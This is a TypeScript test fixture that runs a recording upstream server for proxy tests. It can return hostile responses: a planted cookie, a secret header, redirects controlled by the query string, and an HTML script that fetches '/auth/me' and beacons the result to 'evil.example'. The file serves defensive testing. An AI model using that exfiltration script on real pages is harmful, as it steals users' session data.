import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

export interface RecordedRequest {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

/**
 * An upstream API for proxy tests that records every request it gets and answers JSON (plus a
 * Set-Cookie the proxy must not pass on). `requests` holds the requests that arrived whole;
 * `started` every request as soon as its headers arrived (also one whose body never ended).
 * A query can shape the answer: `?location=L` adds `Location: L` (status `?status=`, default 302),
 * `?type=T` answers `Content-Type: T` (none for `none`) with an HTML page that tries to run a script.
 */
export async function startRecordingUpstream(): Promise<{
  url: string;
  requests: RecordedRequest[];
  started: string[];
  close(): Promise<void>;
}> {
  const requests: RecordedRequest[] = [];
  const started: string[] = [];
  const server: Server = createServer((req, res) => {
    started.push(`${req.method} ${req.url}`);
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      requests.push({ method: req.method!, url: req.url!, headers: req.headers, body });
      res.setHeader('Set-Cookie', 'upstream=evil; Path=/');
      res.setHeader('X-Upstream-Secret', 'internal');
      res.setHeader('Content-Type', 'application/json');
      res.statusCode = req.url?.includes('teapot') ? 418 : 200;
      const query = new URL(req.url!, 'http://upstream').searchParams;
      if (query.has('location')) {
        res.statusCode = Number(query.get('status') ?? 302);
        res.setHeader('Location', query.get('location')!);
      }
      const type = query.get('type');
      if (type) {
        if (type === 'none') res.removeHeader('Content-Type');
        else res.setHeader('Content-Type', type);
        res.end(
          '<!doctype html><script>fetch("/auth/me").then((r) => r.text()).then((t) => navigator.sendBeacon("https://evil.example/", t))</script>',
        );
        return;
      }
      // A path with "slow" answers after a second: a request still in flight when a test wants one.
      const answer = () => res.end(JSON.stringify({ ok: true, method: req.method, url: req.url, body }));
      if (req.url?.includes('slow')) setTimeout(answer, 1_000);
      else answer();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    requests,
    started,
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}
